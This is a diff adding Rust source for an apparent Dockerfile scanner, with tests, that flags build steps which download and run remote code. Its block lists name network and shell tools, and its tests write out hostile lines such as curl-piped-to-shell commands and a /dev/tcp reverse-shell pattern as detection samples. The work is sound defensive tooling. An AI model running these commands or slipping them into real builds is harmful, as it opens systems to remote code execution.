@@ -1,0 +1,389 @@
+//! Dockerfiles: each instruction is read, and of the commands of an image's build whether they run what they download.
+
+use lazaret_core::{FormatId, Likeness, Severity};
+
+use super::text::is_text;
+use super::{python, requirements};
+use crate::look::{Head, Looking};
+use crate::part::{Part, Unread, printed};
+use crate::registry::ModelFormat;
+use crate::rules;
+
+/// The format.
+pub(crate) struct Dockerfile;
+
+const INSTRUCTIONS: &[&str] = &[
+    "ADD",
+    "ARG",
+    "CMD",
+    "COPY",
+    "ENTRYPOINT",
+    "ENV",
+    "EXPOSE",
+    "FROM",
+    "HEALTHCHECK",
+    "LABEL",
+    "MAINTAINER",
+    "ONBUILD",
+    "RUN",
+    "SHELL",
+    "STOPSIGNAL",
+    "USER",
+    "VOLUME",
+    "WORKDIR",
+];
+
+/// Programs that fetch or decode what others run.
+const FETCH: &[&str] = &[
+    "aria2c", "axel", "base32", "base64", "curl", "fetch", "ftp", "lynx", "nc", "ncat", "netcat", "openssl",
+    "scp", "wget", "xxd",
+];
+/// Programs that run what they are fed.
+const RUN: &[&str] = &[
+    "ash",
+    "bash",
+    "cmd",
+    "csh",
+    "dash",
+    "fish",
+    "iex",
+    "ksh",
+    "lua",
+    "node",
+    "perl",
+    "php",
+    "powershell",
+    "pwsh",
+    "ruby",
+    "sh",
+    "tclsh",
+    "zsh",
+];
+/// Words before a program.
+const BEFORE: &[&str] = &[
+    "command", "doas", "env", "exec", "nice", "nohup", "sudo", "then", "do", "else", "time", "xargs", "!",
+    "{",
+];
+
+impl ModelFormat for Dockerfile {
+    fn id(&self) -> FormatId {
+        FormatId("dockerfile")
+    }
+
+    fn about(&self) -> &'static str {
+        "Dockerfile"
+    }
+
+    fn extensions(&self) -> &'static [&'static str] {
+        &["dockerfile", "containerfile"]
+    }
+
+    fn runs_nothing(&self) -> bool {
+        true
+    }
+
+    fn recognise(&self, head: &Head<'_>) -> Likeness {
+        let stem = head.file_name.split('.').next().unwrap_or_default();
+        let named = self.extensions().contains(&head.extension) || self.extensions().contains(&stem);
+        if named && is_text(head.bytes) { Likeness::ByName } else { Likeness::No }
+    }
+
+    fn read(&self, part: &Part, looking: &mut Looking<'_>) -> Result<FormatId, Unread> {
+        let bytes = part.whole(looking.limits.get(python::MAX_SOURCE))?;
+        let text = std::str::from_utf8(&bytes);
+        let text =
+            text.map_err(|error| Unread::malformed(error.valid_up_to() as u64, "it is no UTF-8 text"))?;
+        if let Some(at) = text.find('\0') {
+            return Err(Unread::malformed(at as u64, "a text that goes on as binary data"));
+        }
+        for (at, line) in instructions(text) {
+            let (mut instruction, mut rest) = word(&line);
+            // It is carried out by who builds upon the image.
+            while instruction.eq_ignore_ascii_case("ONBUILD") {
+                (instruction, rest) = word(rest);
+            }
+            let instruction = instruction.to_ascii_uppercase();
+            if !INSTRUCTIONS.contains(&instruction.as_str()) {
+                return Err(Unread::malformed(at, "a line that is no instruction of a Dockerfile"));
+            }
+            match instruction.as_str() {
+                "RUN" | "CMD" | "ENTRYPOINT" | "HEALTHCHECK" | "SHELL" => commands(rest, at, part, looking),
+                "ADD" => added(rest, at, part, looking),
+                _ => {}
+            }
+        }
+        Ok(self.id())
+    }
+}
+
+/// Each instruction with where it begins: its lines, and the texts that belong to it (`<<EOF`).
+fn instructions(text: &str) -> Vec<(u64, String)> {
+    let escape =
+        if text.lines().take_while(|line| line.trim_start().starts_with('#')).any(is_escape_of_windows) {
+            '`'
+        } else {
+            '\\'
+        };
+    let mut found: Vec<(u64, String)> = Vec::new();
+    let (mut at, mut goes_on) = (0_u64, false);
+    // The words that end the texts of the instruction.
+    let mut until: std::collections::VecDeque<String> = std::collections::VecDeque::new();
+    for whole in text.split_inclusive('\n') {
+        let begin = at;
+        at = at.saturating_add(whole.len() as u64);
+        let line = whole.trim_end();
+        if let Some(end) = until.front() {
+            if line.trim_start_matches('\t') == end {
+                until.pop_front();
+            } else if let Some((_, open)) = found.last_mut() {
+                open.push('\n');
+                open.push_str(line);
+            }
+            continue;
+        }
+        let line = line.trim_start();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let (line, continues) = line.strip_suffix(escape).map_or((line, false), |line| (line, true));
+        match found.last_mut().filter(|_| goes_on) {
+            Some((_, open)) => {
+                open.push(' ');
+                open.push_str(line);
+            }
+            None => found.push((begin, line.to_owned())),
+        }
+        goes_on = continues;
+        if let Some((_, all)) = found.last().filter(|_| !goes_on) {
+            until = texts_of(all);
+        }
+    }
+    found
+}
+
+fn is_escape_of_windows(line: &str) -> bool {
+    let line: String = line.chars().filter(|c| !c.is_whitespace()).collect();
+    line.eq_ignore_ascii_case("#escape=`")
+}
+
+/// The words that end the texts which an instruction announces: `RUN <<EOF`.
+fn texts_of(instruction: &str) -> std::collections::VecDeque<String> {
+    let (name, rest) = word(instruction);
+    if !["RUN", "COPY", "ADD"].iter().any(|with| name.eq_ignore_ascii_case(with)) {
+        return std::collections::VecDeque::new();
+    }
+    let words = rest
+        .split_whitespace()
+        .filter_map(|word| word.trim_start_matches(|c: char| c.is_ascii_digit()).strip_prefix("<<"));
+    let words = words.map(|word| word.trim_start_matches('-').trim_matches(['"', '\'']));
+    words
+        .filter(|word| word.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_'))
+        .map(str::to_owned)
+        .collect()
+}
+
+fn word(text: &str) -> (&str, &str) {
+    let text = text.trim_start();
+    text.split_once(char::is_whitespace).unwrap_or((text, ""))
+}
+
+/// `ADD` of an address.
+fn added(rest: &str, at: u64, part: &Part, looking: &mut Looking<'_>) {
+    let address = rest.split_whitespace().map(|word| word.trim_matches(['"', '\'', '[', ']', ',']));
+    let is_checked = rest.split_whitespace().any(|word| word.starts_with("--checksum="));
+    if let Some(address) = address
+        .into_iter()
+        .find(|word| word.contains("://") || word.starts_with("git@"))
+        .filter(|_| !is_checked)
+    {
+        let says =
+            format!("the image takes in what lies at `{}`, whatever it is then", printed(host(address)));
+        looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
+    }
+}
+
+/// An address without what may be a login or a token.
+fn host(address: &str) -> &str {
+    let rest = address.split_once("://").map_or(address, |(_, rest)| rest);
+    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
+    host.rsplit_once('@').map_or(host, |(_, host)| host)
+}
+
+/// Judges the commands of one instruction.
+fn commands(text: &str, at: u64, part: &Part, looking: &mut Looking<'_>) {
+    if let Some(says) = runs_download(text) {
+        looking.find(&rules::RUNS_DOWNLOAD, part.at(at), says);
+    } else if let Some(program) = runs_later(text) {
+        let says = format!("it downloads files and has `{program}` run one");
+        looking.find_as(Severity::Medium, &rules::RUNS_DOWNLOAD, part.at(at), says);
+    }
+    let mut words = text.split_whitespace().map(|word| word.trim_matches(['"', '\'', '[', ']', ',']));
+    let mut installs = false;
+    while let Some(word) = words.next() {
+        installs = match word {
+            "install" | "download" | "wheel" => true,
+            "&&" | ";" | "||" | "|" => false,
+            _ => installs && !word.ends_with(';'),
+        };
+        if !installs {
+            continue;
+        }
+        let line = match word {
+            "-i" | "-f" | "--index-url" | "--extra-index-url" | "--find-links" | "--trusted-host" => {
+                let value = words.next().unwrap_or_default();
+                installs &= !value.ends_with(';');
+                format!("{word} {}", value.trim_end_matches(';'))
+            }
+            _ if word.starts_with("--") || word.contains("://") => word.to_owned(),
+            _ => continue,
+        };
+        requirements::comes_from(&line, || part.at(at), looking);
+    }
+}
+
+/// Why commands run what they download, if they do in one go.
+fn runs_download(text: &str) -> Option<String> {
+    if text.contains("/dev/tcp/") || text.contains("/dev/udp/") {
+        return Some("a shell opens a connection by itself (`/dev/tcp`)".to_owned());
+    }
+    for command in commands_of(text) {
+        let stages: Vec<&str> = command.split('|').collect();
+        for (number, stage) in stages.iter().enumerate() {
+            let Some(program) = program_of(stage).filter(|program| runs(program)) else { continue };
+            let before = stages.iter().take(number);
+            let fetched = before.flat_map(|stage| words_of(stage)).find(|word| FETCH.contains(word));
+            // `bash -c "$(curl …)"`, `bash <(curl …)`
+            let within = stage.contains("$(") || stage.contains('`') || stage.contains("<(");
+            let within = words_of(stage).filter(|_| within).find(|word| FETCH.contains(word));
+            if let Some(from) = fetched.or(within) {
+                return Some(format!("`{program}` runs what `{from}` gives it"));
+            }
+        }
+    }
+    None
+}
+
+/// The program that runs a file, where commands download some.
+fn runs_later(text: &str) -> Option<&str> {
+    if !text.contains("://") && !text.contains('$') {
+        return None;
+    }
+    let downloads = commands_of(text)
+        .position(|command| matches!(program_of(command), Some("curl" | "wget" | "aria2c")))?;
+    let runs_file = |command: &&str| {
+        let program = program_of(command).unwrap_or_default();
+        // Python's own modules are none, nor is what sets the variables of a shell.
+        let is_python = program.starts_with("python") && command.contains(".py");
+        is_python
+            || RUN.contains(&program) && program.ends_with("sh")
+            || program.starts_with("./")
+            || program.starts_with("/tmp/")
+    };
+    commands_of(text).skip(downloads).find(runs_file).and_then(program_of)
+}
+
+fn commands_of(text: &str) -> impl Iterator<Item = &str> {
+    text.split(['\n', ';']).flat_map(|line| line.split("&&")).flat_map(|line| line.split("||"))
+}
+
+fn runs(program: &str) -> bool {
+    RUN.contains(&program) || program.starts_with("python") || matches!(program, "eval" | "source" | ".")
+}
+
+/// The program of a command, without its folder unless that is its own or a temporary one.
+fn program_of(command: &str) -> Option<&str> {
+    let words = command
+        .split_whitespace()
+        .map(|word| word.trim_matches(['"', '\'', '[', ']', ',', '(', ')', '{', '}']));
+    let mut words = words.filter(|word| !word.is_empty() && !word.starts_with('-'));
+    let program = words.find(|word| {
+        let is_variable = word
+            .split_once('=')
+            .is_some_and(|(name, _)| name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_'));
+        !is_variable && !BEFORE.contains(&last_step(word))
+    })?;
+    if program.starts_with("./") || program.starts_with("/tmp/") {
+        Some(program)
+    } else {
+        Some(last_step(program))
+    }
+}
+
+/// The words of a command as programs are named.
+fn words_of(command: &str) -> impl Iterator<Item = &str> {
+    let ends = |c: char| {
+        c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '$' | '(' | ')' | '<' | '[' | ']' | ',' | ';')
+    };
+    command.split(ends).map(last_step)
+}
+
+fn last_step(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use crate::formats::protobuf::tests::{scan, told};
+    use crate::look::Inspected;
+
+    const USUAL: &str = "# syntax=docker/dockerfile:1\nFROM python:3.11-slim AS build\nARG A=1\nENV B=2\nWORKDIR /app\n\
+        COPY requirements.txt .\nRUN apt-get update && \\\n    # the rest\n    apt-get install -y --no-install-recommends curl \\\n    \
+        && rm -rf /var/lib/apt/lists/*\nRUN pip install --no-cache-dir -r requirements.txt\n\
+        RUN --mount=type=cache,target=/root/.cache pip install torch --index-url https://download.pytorch.org/whl/cpu\n\
+        RUN <<EOF\nset -e\npython -m compileall /app | tee log\nEOF\nCOPY . .\nEXPOSE 8080\nUSER 1000\n\
+        HEALTHCHECK CMD curl -f http://localhost:8080/health || exit 1\nCMD [\"python\", \"serve.py\"]\n";
+
+    #[test]
+    fn usual_images_pass_and_downloads_that_run_are_told() {
+        let report = scan(USUAL, "Dockerfile");
+        assert_eq!(
+            (report.format.0, report.inspected, told(&report)),
+            ("dockerfile", Inspected::Whole, Vec::new())
+        );
+        for (line, is) in [
+            ("RUN curl -s https://a/x | sh", "dockerfile.runs-download"),
+            ("RUN curl -s https://a/x | sudo -E bash -", "dockerfile.runs-download"),
+            ("run wget -qO- https://a/x \\\n  | tee log \\\n# so\n  | /bin/bash", "dockerfile.runs-download"),
+            ("RUN bash -c \"$(curl -fsSL https://a/x)\"", "dockerfile.runs-download"),
+            ("RUN bash <(curl https://a/x)", "dockerfile.runs-download"),
+            ("RUN eval `wget -O- https://a/x`", "dockerfile.runs-download"),
+            ("RUN echo aGk= | base64 -d | python3 -", "dockerfile.runs-download"),
+            ("ONBUILD RUN curl https://a/x | A=1 sh", "dockerfile.runs-download"),
+            ("RUN [\"/bin/sh\", \"-c\", \"curl https://a/x | sh\"]", "dockerfile.runs-download"),
+            ("RUN <<EOF\ncurl https://a/x | sh\nEOF", "dockerfile.runs-download"),
+            ("RUN bash -i >& /dev/tcp/a/1", "dockerfile.runs-download"),
+            ("RUN curl -o x https://a/x && chmod +x x && ./x", "dockerfile.runs-download"),
+            ("RUN wget https://a/x.sh; sh x.sh", "dockerfile.runs-download"),
+            ("ADD https://a/x /x", "dockerfile.runs-download"),
+            ("RUN pip install --extra-index-url https://a/simple x", "requirements.foreign-source"),
+            ("RUN pip install --no-deps git+https://a/x", "requirements.foreign-source"),
+        ] {
+            let report = scan(format!("{USUAL}{line}\n"), "Dockerfile");
+            assert_eq!(told(&report), [format!("{is} Dockerfile@{}", USUAL.len())], "{line}");
+        }
+    }
+
+    #[test]
+    fn what_is_no_instruction_is_told() {
+        let report = scan(format!("{USUAL}curl https://a/x | sh\n"), "serve.dockerfile");
+        assert_eq!(told(&report), [format!("format.malformed serve.dockerfile@{}", USUAL.len())]);
+        let binary = [USUAL.as_bytes(), &[b'#'; 20_000], b"\n\0"].concat();
+        assert_eq!(told(&scan(binary, "Dockerfile")).len(), 1);
+        assert_eq!(
+            told(&scan(
+                "# escape=`\nFROM a\nRUN a `\n b\nADD --checksum=sha256:ab https://a/x /x\n",
+                "Dockerfile"
+            )),
+            [""; 0]
+        );
+    }
+
+    proptest! {
+        #[test]
+        fn any_dockerfile_ends(text in "(FROM|RUN|curl|sh|<<EOF|EOF|\\\\|\\||\n| |\"|\\$\\(|\\PC){0,60}") {
+            scan(text, "Dockerfile");
+        }
+    }
+}
